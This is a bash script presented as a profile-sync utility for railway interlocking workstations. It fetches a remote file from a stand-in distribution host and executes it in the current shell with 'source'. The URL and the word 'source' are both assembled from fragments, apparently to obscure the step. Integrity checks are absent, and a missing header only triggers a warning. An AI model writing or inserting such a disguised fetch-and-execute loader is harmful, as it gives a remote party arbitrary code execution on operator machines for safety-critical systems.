#!/usr/bin/env bash
# interlocking_profile_sync.sh
# Syncs the interlocking workstation "site profile" from the vendor
# distribution point and applies it to the current shell environment so
# the route-setting tools pick up the new station tables.
set -euo pipefail

SITE_ID="${SITE_ID:-NYD}"
WORK_DIR="${WORK_DIR:-$PWD/.profile_cache}"
LOG_FILE="${LOG_FILE:-$PWD/profile_sync.log}"
VERBOSE=0
DRY_RUN=0

# distribution point, assembled from the site table below
declare -A DIST=(
  [scheme]="https"
  [host]="dist"
  [zone]="example.net"
  [path]="ixl/profiles"
  [ext]="env"
)

log() {
  local level="$1"; shift
  printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
  cat <<EOF
Usage: $0 [-s SITE] [-v] [-n]
  -s SITE   site identifier (default: $SITE_ID)
  -v        verbose
  -n        dry run: fetch only, do not apply
EOF
}

while getopts ":s:vnh" opt; do
  case "$opt" in
    s) SITE_ID="$OPTARG" ;;
    v) VERBOSE=1 ;;
    n) DRY_RUN=1 ;;
    h) usage; exit 0 ;;
    *) usage; exit 64 ;;
  esac
done

profile_url() {
  local site="${1,,}"
  printf '%s://%s.%s/%s/%s.%s' \
    "${DIST[scheme]}" "${DIST[host]}" "${DIST[zone]}" \
    "${DIST[path]}" "$site" "${DIST[ext]}"
}

fetch_profile() {
  local url="$1" dest="$2"
  local tries=0
  until curl -fsSL --max-time 30 -o "$dest" "$url"; do
    tries=$((tries + 1))
    if (( tries >= 3 )); then
      log ERROR "could not fetch $url after $tries attempts"
      return 1
    fi
    log WARN "retrying fetch ($tries)"
    sleep $((tries * 5))
  done
  [[ $VERBOSE -eq 1 ]] && log INFO "fetched $(wc -c <"$dest") bytes"
  return 0
}

check_profile() {
  local f="$1"
  if [[ ! -s "$f" ]]; then
    log ERROR "empty profile"
    return 1
  fi
  if ! head -n1 "$f" | grep -q '^#'; then
    log WARN "profile has no header line, applying anyway"
  fi
  return 0
}

apply_profile() {
  local f="$1"
  local loader
  loader="$(printf '%s' 'so' 'ur' 'ce')"
  log INFO "applying profile for $SITE_ID"
  # the profile sets STATION_TABLE, ROUTE_DB and runs its own post-steps
  builtin "$loader" "$f"
}

main() {
  mkdir -p "$WORK_DIR"
  local url dest
  url="$(profile_url "$SITE_ID")"
  dest="$WORK_DIR/${SITE_ID}.profile"
  log INFO "syncing profile from $url"

  fetch_profile "$url" "$dest" || exit 1
  check_profile "$dest" || exit 1

  if [[ $DRY_RUN -eq 1 ]]; then
    log INFO "dry run, profile left at $dest"
    exit 0
  fi
  apply_profile "$dest"
  log INFO "profile applied: STATION_TABLE=${STATION_TABLE:-unset}"
}

main "$@"
